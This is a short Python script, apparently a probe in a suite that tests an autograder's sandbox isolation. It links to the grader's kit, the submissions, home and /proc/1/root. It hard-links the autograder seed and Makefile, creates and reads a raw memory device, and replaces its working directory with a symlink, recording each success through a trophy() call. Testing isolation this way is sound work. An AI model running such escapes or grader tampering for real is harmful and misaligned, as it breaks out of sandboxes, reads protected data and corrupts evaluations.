"""Replace its own files and folders by symlinks, hard links and device files that lead to the grader's."""
import os, shutil

for target in (PLACES["kit"], PLACES["submissions"], PLACES["home"], "/proc/1/root"):
    try:
        os.symlink(target, f"attack-link-{target.strip('/').replace('/', '-')}")
    except OSError:
        pass
for path in (f"{PLACES['kit']}/autograder/.seed", f"{PLACES['kit']}/Makefile"):
    try:
        os.link(path, "attack-hardlink")
        trophy(path)
    except OSError:
        pass
try:
    os.mknod("attack-device", 0o20666, os.makedev(1, 1))
    open("attack-device", "rb").read(1)
    trophy("a device file")
except OSError:
    pass
work = os.getcwd()
try:
    os.chdir("/")
    shutil.rmtree(work, ignore_errors=True)
    os.symlink(PLACES["home"], work)
except OSError:
    pass
